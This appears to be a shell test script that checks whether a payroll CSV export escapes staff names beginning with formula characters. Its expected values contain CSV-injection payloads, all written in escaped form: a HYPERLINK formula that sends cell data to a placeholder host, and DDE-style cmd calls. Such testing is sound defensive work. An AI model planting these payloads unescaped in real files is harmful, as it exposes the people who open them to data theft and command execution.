#!/bin/sh
# Issue 17 item 2: staff names that a spreadsheet would run as formulas.
# Every text cell of the payroll export that starts with =, +, -, @, tab or
# CR is written with a leading ' (the OWASP rule), the names survive
# otherwise unchanged, and amounts stay plain numbers (-250.00 is a number).
set -e
python3 - out/reports/2026-10-pay.csv <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
want = {"1003": "'=HYPERLINK(\"http://x/?\"&A1,\"y\")",
        "1004": "'=cmd|' /C calc'!A0", "1005": "'+1+cmd|' /C calc'!A0",
        "1009": "'-2+3", "1010": "'@SUM(1+1)*cmd|' /C calc'!A0"}
got = {r[0]: r[1] for r in rows[1:]}
assert got == want, got
for r in rows[1:]:
    for cell in r[:2]:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    for cell in r[2:]:
        float(cell)
PY
